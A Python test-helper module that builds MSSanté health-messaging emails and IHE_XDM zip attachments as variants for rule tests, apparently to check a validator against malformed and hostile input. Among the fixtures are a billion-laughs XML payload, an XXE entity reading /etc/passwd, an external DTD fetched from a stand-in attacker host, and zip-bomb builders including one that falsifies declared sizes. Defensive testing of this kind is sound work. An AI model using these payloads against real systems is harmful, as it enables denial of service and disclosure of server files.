"""Message and archive builders for the MSSanté rule tests, all derived from the seed."""

from __future__ import annotations

import email
import io
import zipfile
from collections.abc import Iterable, Mapping
from email.message import EmailMessage
from email.policy import SMTP
from email.policy import default as default_policy
from email.utils import formatdate, make_msgid

from mock_operator.personas import default_personas
from mock_operator.seed import CDA_CODE, PATIENT_INS, ihe_xdm_zip, seed_messages

HOSPITAL = "medecine-interne@ch-villeneuve.mssante.fr"  # From of the seeded letter
LAB = "resultats@labo-biomed.mssante.fr"  # From of the first seeded message
PATIENT = f"{PATIENT_INS}@patient.mssante.fr"
NIR_OID = "1.2.250.1.213.1.4.8"
METADATA = "IHE_XDM/SUBSET01/METADATA.XML"
DOC1 = "IHE_XDM/SUBSET01/DOC0001.XML"
MIB = 1024 * 1024

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="&lol9;"/></ClinicalDocument>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="&xxe;"/></ClinicalDocument>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.invalid/cda.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="11490-0"/></ClinicalDocument>
"""


def letter(sender: str, to: str, title: str, nil: str | None) -> EmailMessage:
    """The head of a message as an LPS writes it (Date, Message-ID, X-MSS-NIL unless
    `nil` is None): the test adds its body and parts."""
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = title
    msg["Date"] = formatdate(localtime=True)
    msg["Message-ID"] = make_msgid(domain="lps.test")
    if nil is not None:
        msg["X-MSS-NIL"] = nil
    return msg


def seeded() -> list[bytes]:
    persona = default_personas().get("dr-martin")
    assert persona is not None
    return [message.raw for message in seed_messages(persona)]


def seeded_letter() -> bytes:
    """The seeded message with an IHE_XDM.ZIP and correct X-MSS-* headers."""
    return seeded()[1]


def seeded_plain() -> bytes:
    """The first seeded message: X-MSS-NIL only, no attachment."""
    return seeded()[0]


def xdm_entries(code: str = CDA_CODE) -> dict[str, bytes]:
    """The seed's IHE_XDM.ZIP as a name -> data map, to vary one entry at a time."""
    with zipfile.ZipFile(io.BytesIO(ihe_xdm_zip(code))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def make_zip(
    entries: Mapping[str, bytes] | Iterable[tuple[str, bytes]],
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    items = entries.items() if isinstance(entries, Mapping) else entries
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in items:
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 2, 9, 15, 0)), data, method)
    return buffer.getvalue()


def metadata_with(value: str = PATIENT_INS, oid: str = NIR_OID) -> bytes:
    """The seed's METADATA.XML naming patient `value` under assigning authority `oid`."""
    original = xdm_entries()[METADATA].decode()
    return original.replace(PATIENT_INS, value).replace(NIR_OID, oid).encode()


def xdm_with(
    *, metadata: bytes | None = None, documents: Mapping[str, bytes] | None = None
) -> bytes:
    """An IHE_XDM.ZIP like the seed's, with METADATA.XML and/or the documents replaced."""
    entries = xdm_entries()
    if metadata is not None:
        entries[METADATA] = metadata
    if documents is not None:
        del entries[DOC1]
        entries.update(documents)
    return make_zip(entries)


def without_metadata() -> bytes:
    entries = xdm_entries()
    del entries[METADATA]
    return make_zip(entries)


def variant(
    raw: bytes,
    *,
    headers: Mapping[str, str | None] | None = None,
    attachment: bytes | None = None,
    filename: str = "IHE_XDM.ZIP",
    subtype: str = "zip",
    add_attachment: bool = False,
) -> bytes:
    """The message with headers set (None: removed) and the XDM attachment replaced/added."""
    message = email.message_from_bytes(raw, policy=default_policy)
    assert isinstance(message, EmailMessage)
    for name, value in (headers or {}).items():
        del message[name]
        if value is not None:
            message[name] = value
    if attachment is not None:
        if add_attachment:
            message.add_attachment(
                attachment, maintype="application", subtype=subtype, filename=filename
            )
        else:
            parts = list(message.iter_attachments())
            assert len(parts) == 1
            parts[0].set_content(
                attachment, maintype="application", subtype=subtype, filename=filename
            )
    return message.as_bytes(policy=SMTP)


def zeros_zip(name: str, size: int, *, force_zip64: bool = False) -> bytes:
    """`size` zero bytes deflated into one entry, streamed: never `size` bytes in memory."""
    chunk = bytes(MIB)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name, (2026, 11, 2, 9, 15, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=force_zip64) as entry:
            left = size
            while left > 0:
                entry.write(chunk[: min(left, MIB)])
                left -= MIB
    return buffer.getvalue()


def lie_about_size(data: bytes, name: str, declared: int) -> bytes:
    """Rewrite the central-directory uncompressed size of `name` (a lying zip bomb)."""
    encoded = name.encode()
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        name_length = int.from_bytes(data[position + 28 : position + 30], "little")
        if data[position + 46 : position + 46 + name_length] == encoded:
            patched = bytearray(data)
            patched[position + 24 : position + 28] = declared.to_bytes(4, "little")
            return bytes(patched)
        position = data.find(b"PK\x01\x02", position + 4)
    raise AssertionError(f"{name} not in the central directory")
